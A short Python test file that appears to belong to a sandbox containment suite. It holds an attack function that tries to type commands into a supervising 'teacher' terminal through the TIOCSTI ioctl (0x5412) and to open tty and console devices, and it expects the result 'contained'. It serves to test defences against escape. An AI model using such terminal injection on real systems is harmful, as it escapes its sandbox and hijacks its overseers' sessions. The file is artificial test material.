"""Goal: type commands into the teacher's terminal (TIOCSTI), or make it its own.
Seen instead: every request is refused.
"""
# expect: contained
# says: The shape \(2,\) was due, and it is \(0,\)
# ruff: noqa

import fcntl
import os


def attack(x):
    done = []
    for file in (0, 1, 2):
        for letter in b"id\n":
            try:
                fcntl.ioctl(file, 0x5412, bytes([letter]))
                done.append(f"typed into {file}")
            except OSError:
                continue
    for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/ptmx"):
        try:
            os.close(os.open(path, os.O_RDWR | os.O_NOCTTY))
            done.append(path)
        except OSError:
            continue
    return done
